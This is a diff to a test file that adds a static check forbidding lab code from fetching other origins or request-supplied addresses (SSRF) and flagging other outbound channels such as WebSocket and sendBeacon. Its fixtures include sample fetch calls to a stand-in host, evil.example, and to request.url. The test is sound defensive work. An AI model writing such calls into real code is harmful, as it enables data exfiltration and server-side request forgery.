@@ -45,7 +45,51 @@ test('whatever of the lab has an address is left out of a build without it', () 
   expect(actions.length).toBeGreaterThan(0)
 })
 
+/** What the server may ask: the address that is configured for it, never one that came with a request (that would be SSRF). */
+const ownAddress = /^`\$\{selfOrigin\(\)\}/
+/** Below app/ a browser asks, and our Content-Security-Policy says where: ourselves, and the services that tokens are for. */
+const isAskedByBrowser = ({ path }: Source) => path.startsWith('app/lab/')
+
+const absolute = /^['"`](https?:|\/\/)/
+
+/** Calls of `fetch`, by whatever it is a property of, with what stands first between the parentheses. */
+const askedAddresses = ({ text }: Source) =>
+  [...text.matchAll(/\bfetch\s*\(\s*(`[^`]*`|[^,()]*(?:\(\))?[^,()]*)/g)].map(([, address = '']) => address.trim())
+
+const askingElsewhere = (source: Source) =>
+  askedAddresses(source)
+    .filter((address) => (isAskedByBrowser(source) ? absolute.test(address) : !ownAddress.test(address)))
+    .map((address) => `${source.path}: ${address}`)
+
+/** Another way out than `fetch`. */
+const otherWaysOut = ({ text }: Source) =>
+  /XMLHttpRequest|WebSocket|EventSource|sendBeacon|node:(http|https|net)\b/.test(text)
+
+test('no code of the lab asks another origin for anything, or an address that came with a request', () => {
+  expect(sources.filter(isLab).flatMap(askedAddresses).length).toBeGreaterThan(0)
+  expect(sources.filter(isLab).flatMap(askingElsewhere)).toEqual([])
+  expect(sources.filter(isLab).filter(otherWaysOut)).toEqual([])
+})
+
 describe('noticed is', () => {
+  test.each([
+    ['lib/server/lab/x.ts', 'fetch(address)'],
+    ['lib/server/lab/x.ts', 'fetch(request.url, init)'],
+    ['lib/server/lab/x.ts', 'globalThis.fetch(new URL(path, origin))'],
+    ['lib/edge/x.lab.ts', `fetch(\`\${origin}\${targets.edge}\`)`],
+    ['app/api/lab/x/route.lab.ts', "fetch('https://evil.example')"],
+    ['app/lab/x/ask.ts', `fetch(\`https://evil.example/\${path}\`, asking)`],
+    ['app/lab/x/ask.ts', "fetch('//evil.example')"],
+  ])('in %s a question to somebody else: %s', (path, call) => {
+    expect(askingElsewhere(parseSource(path, call))).toHaveLength(1)
+  })
+
+  test('nothing about a question to ourselves', () => {
+    const server = `fetch(\`\${selfOrigin()}\${targets.edge}?\${query}\`, { headers })`
+    expect(askingElsewhere(parseSource('lib/server/lab/x.ts', server))).toEqual([])
+    expect(askingElsewhere(parseSource('app/lab/x/ask.ts', 'fetch(routes.me, asking)'))).toEqual([])
+  })
+
   test.each([
     ['a page', 'app/lab/x/page.lab.tsx', 'export default function Page() { load() }'],
     ['a handler', 'app/api/lab/x/route.lab.ts', 'export async function GET() { return read() }'],
